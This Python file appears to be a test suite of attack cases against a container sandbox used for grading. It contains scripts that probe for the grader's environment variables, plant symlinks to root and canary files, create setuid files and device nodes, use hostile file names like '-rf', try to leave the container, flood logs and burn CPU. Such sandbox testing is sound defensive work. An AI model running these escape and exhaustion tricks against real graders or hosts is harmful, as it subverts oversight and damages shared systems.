VARIABLES = ("HOME", "PATH", "PWD", "USER", "HOSTILE_CANARY", "DOCKER_HOST", "DOCKER_CONFIG", "TMPDIR", "OLDPWD")
ENVIRONMENT = """
import os
own = dict(os.environ)
given = {name: value for name, value in own.items() if name.startswith("GIVEN_") and value}
print("given:", given)
print("literally:", own["LITERALLY"])
usual = {"PATH", "HOME", "HOSTNAME", "LANG", "GPG_KEY", "LITERALLY", "NOTHING"}
print("others:", sorted(name for name in own if name not in usual and not name.startswith(("GIVEN_", "PYTHON_"))))
print("home:", own["HOME"])
"""
OUT = [
    Attack(
        "reaches-the-machine-without-egress",
        _spying(REACHING),
        options=NO_EGRESS,
        says=("default route: none", "the machine: not reached", "web: True", "the bystander: False"),
    ),
    Attack(
        "reaches-the-machine-from-several-networks-without-egress",
        _spying(
            REACHING,
            networks={"default": {"priority": 1000}, "second": {}},
            networks_of_all={"second": {"enable_ipv6": False, "internal": False}},
        ),
        options=NO_EGRESS,
        says=("default route: none", "the machine: not reached", "web: True", "the bystander: False"),
    ),
    # A known limit (SECURITY.md): the machine's side of an internal network has no address, but it hears broadcasts.
    Attack(
        "shouts-to-the-machine-without-egress",
        _spying(BROADCASTING),
        options=NO_EGRESS,
        gets_through="broadcasts reach UDP services of the machine that listen on every address",
    ),
    # Docker's default capabilities have NET_RAW.
    Attack(
        "forges-packets-without-egress",
        _spying(FORGING),
        options=NO_EGRESS,
    ),
    Attack(
        "asks-for-names-outside-without-egress",
        _spying(NAMES),
        options=NO_EGRESS,
        says=("not known",) * 5,
    ),
    Attack(
        "leaves-through-the-gate",
        _answering(THROUGH_THE_GATE),
        options=NO_EGRESS,
        verdicts=(PASSED, FAILED, PASSED),
        shows={"answer": r"\[20000\] lead to \{b'me'\}"},
    ),
    Attack(
        "looks-for-other-peoples-containers",
        _spying(SEEING),
        says=("the bystander: False", "processes: True"),
    ),
    Attack(
        "leaves-its-container",
        _spying(LEAVING, user="0:0", cap_add=["CHOWN", "DAC_OVERRIDE", "FOWNER", "KILL", "SETGID", "SETUID"]),
        says=("no new privileges: 1", "tried"),
    ),
    Attack(
        "asks-for-the-graders-variables",
        _spying(
            ENVIRONMENT,
            environment={
                **{f"GIVEN_{name}": f"${{{name}}}" for name in VARIABLES},
                "LITERALLY": "$$HOME ${HOSTILE_CANARY:-nothing} $${HOSTILE_CANARY}",
                "NOTHING": "${HOSTILE_CANARY-}",
            },
        ),
        says=("given: {}", "literally: $HOME nothing ${HOSTILE_CANARY}", "others: []", "home: /root"),
    ),
]

# --- links and files ------------------------------------------------------------------------------------

LINKING = """
import errno, fcntl, os, stat, struct
os.umask(0)
os.chdir("/data")
targets = {"root": "/", "canary": "{canary_file}", "outside": "{outside}", "up": "../../../..", "self": "self",
           "proc": "/proc/self/root", "state": ".."}
for name, target in targets.items():
    os.symlink(target, name)
os.symlink("{outside}", "/data/folder")
open("setuid", "w").write("#!/bin/sh\\n")
os.chmod("setuid", 0o6777)
os.mknod("disk", 0o666 | stat.S_IFBLK, os.makedev(254, 0))
os.mknod("zero", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
os.mkfifo("pipe")
for name in (b"new\\nline", b"\\xff\\xfe", b"-rf", b" ", b"*", "\\u202egpj".encode(), b"x" * 255):
    open(name, "w").close()
os.makedirs("closed/inner")
open("closed/inner/file", "w").write("x")
for path in ("closed/inner/file", "closed/inner", "closed"):
    os.chown(path, 65534, 65534)
    os.chmod(path, 0)
os.makedirs("/".join(["deep"] * 300))
os.link("setuid", "hard")
with open("stays", "w") as stays:
    try:
        fcntl.ioctl(stays, 0x40086602, struct.pack("L", 0x10))
        print("cannot be removed")
    except OSError as error:
        print(errno.errorcode[error.errno])
print("done")
"""
DEEP = """
import os
os.chdir("/data")
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
print("done")
"""
FILES = [
    Attack(
        "puts-links-and-devices-into-its-folder",
        _spying(LINKING, volumes=["./data:/data"]),
        says=("EPERM", "done"),
    ),
    Attack(
        "replaces-its-own-files-by-links",
        _stack(
            {
                "volumes": [".:/srv"],
                "command": "sh -c 'cd /srv; ln -sf {canary_file} compose.yml; ln -sf {outside} owner; "
                "ln -sf {canary_file} answer.txt; exec python -m http.server 8000'",
            }
        ),
        verdicts=(PASSED, FAILED, PASSED),
        shows={"answer": "Error resp"},
    ),
    # Up to Python 3.12, shutil.rmtree calls itself for each folder in a folder.
    Attack(
        "makes-folders-deeper-than-python-can-go",
        _spying(DEEP, volumes=["./data:/data"]),
        says=("done",),
    ),
]
HELD = {"healthcheck": {"test": "test -e /tmp/go"}}
# Each of the log's files is 5 MB at most.
FLOOD = Attack(
    "floods-its-log",
    _stack({"command": "sh -c 'yes $$(printf %0300d 1) | head -c 40000000; "
            "head -c 20000000 /dev/zero | tr \\\\0 a; "
            "touch /tmp/flooded; exec python -m http.server 8000 -d /srv'", **HELD}),
)  # fmt: skip
PORTS = Attack(
    "publishes-ports-to-the-world",
    _stack(
        {"ports": ["0.0.0.0:{taken}:8000", "{uplink}:{port}:8001", "[::]:18083:8002", "18090-18092:9000-9002/udp",
                   {"target": 8003, "published": "22", "mode": "host"}],
         **HELD},
    ),
)  # fmt: skip
BURNING = Attack(
    "burns-the-processors",
    _stack(HELD, **{f"burner{n}": {"command": "sh -c 'while :; do :; done'", "cpu_shares": 200_000} for n in range(4)}),
)
REACHING_WITH_EGRESS = Attack(
    "reaches-the-machine-as-everybody-does",
    _spying(REACHING),
    says=("default route: yes", "the machine: reached", "web: True", "the bystander: False"),
)
ATTACKS = [*RESOURCES, *ANSWERS, *BUILDS, *VERDICTS, *OUT, *FILES]
